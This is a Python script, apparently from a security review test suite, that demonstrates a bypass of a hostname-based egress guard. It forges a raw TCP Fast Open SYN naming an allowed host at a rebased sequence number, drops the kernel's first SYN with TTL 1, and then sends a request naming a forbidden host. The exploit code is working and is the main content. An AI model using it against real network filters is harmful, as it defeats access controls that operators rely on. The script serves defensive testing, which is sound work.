# CAP_NET_RAW (the fifth review, of 87f6510): a lost Fast Open SYN rebases the flight. The
# kernel socket's SYN (ISN b) is sent with an IP TTL of 1 and dies at the router; a raw SYN
# with data at ISN a = b - len(good), naming the allowed name, is judged and never taken by
# the server (TTL 1 too, or a TCP MD5 option, which a server without a key discards). The
# kernel's SYN, retransmitted, gets a SYN-ACK acknowledging b + 1 = a + 1 + len(good): just
# what a server that took the Fast Open data would acknowledge. The socket then names the
# other host, unjudged if that SYN-ACK confirmed the flight. The guard drops every Fast Open
# SYN now.
# usage: tfo_rebase_attack.py ADDR PORT http|tls WORKDIR CAFILE GOOD EVIL ttl1|md5
#   (for tls, run with the test's finish() prepended)
import select, socket, struct, sys
addr, port, mode = sys.argv[1], int(sys.argv[2]), sys.argv[3]
sys.path.insert(0, sys.argv[4])
from rawtcp import csum
good_name, evil_name, lose = sys.argv[6], sys.argv[7], sys.argv[8]
if mode == "http":
    good = b"GET / HTTP/1.1\r\nHost: %s\r\n\r\n" % good_name.encode()
else:
    # A TLS 1.2-only ClientHello (no supported_versions) naming the allowed name.
    def u16(n): return struct.pack("!H", n)
    name = good_name.encode()
    sni = u16(0) + u16(len(name) + 5) + u16(len(name) + 3) + b"\0" + u16(len(name)) + name
    body = b"\x03\x03" + bytes(32) + b"\0" + u16(2) + b"\xc0\x2f" + b"\x01\x00" + u16(len(sni)) + sni
    hs = b"\x01" + len(body).to_bytes(3, "big") + body
    good = b"\x16\x03\x01" + u16(len(hs)) + hs
sniff = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0003))
sniff.settimeout(5)
s = socket.socket()
s.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 1)   # the kernel's SYN dies at the router
s.setblocking(False)
s.connect_ex((addr, port))
while True:
    pkt = sniff.recv(65535)
    ihl = (pkt[0] & 15) * 4
    if len(pkt) < 40 or pkt[0] >> 4 != 4 or pkt[9] != 6 or socket.inet_ntoa(pkt[16:20]) != addr: continue
    sp, dp, seq, ack, _, fl = struct.unpack("!HHIIBB", pkt[ihl:ihl + 14])
    if dp == port and fl & 0x12 == 0x02:
        src = socket.inet_ntoa(pkt[12:16]); break
b = seq
a = (b - len(good)) & 0xffffffff
opts = b""
if lose == "md5":  # a TCP MD5 signature option (RFC 2385): a server without a key discards the segment
    opts = bytes([19, 18]) + bytes(16) + b"\x01\x01"
tcp = struct.pack("!HHIIBBHHH", sp, port, a, 0, (5 + len(opts) // 4) << 4, 0x02, 65535, 0, 0) + opts + good
pseudo = socket.inet_aton(src) + socket.inet_aton(addr) + struct.pack("!BBH", 0, 6, len(tcp))
tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
if lose == "ttl1": raw.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 1)   # judged by the guard, dies at the router
try:
    raw.sendto(tcp, (addr, 0))
    print("tfo-sent isn=%d a=%d" % (b, a), flush=True)
except PermissionError:
    print("tfo-dropped", flush=True)
s.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 64)  # the kernel's SYN retransmission reaches the server
# Wait for the connection (the retransmitted SYN's SYN-ACK): writable once connected.
if not select.select([], [s], [], 8)[1] or s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
    print("error no connect")
    sys.exit(0)
s.setblocking(True)
s.settimeout(8)
if mode == "http":
    s.sendall(b"GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % evil_name.encode())
    r = b""
    try:
        while True:
            d = s.recv(65536)
            if not d: break
            r += d
        print(r.decode(errors="replace").strip().splitlines()[-1] if r else "error empty")
    except OSError as e:
        print("error", type(e).__name__, e)
else:
    from sni_polyglot import hello
    tls, incoming, outgoing, evil = hello(evil_name, ["http/1.1"], sys.argv[5])
    try:
        s.sendall(evil)
    except OSError as e:
        print("error", type(e).__name__, e)
        sys.exit(0)
    finish(s, tls, incoming, outgoing, host=evil_name)
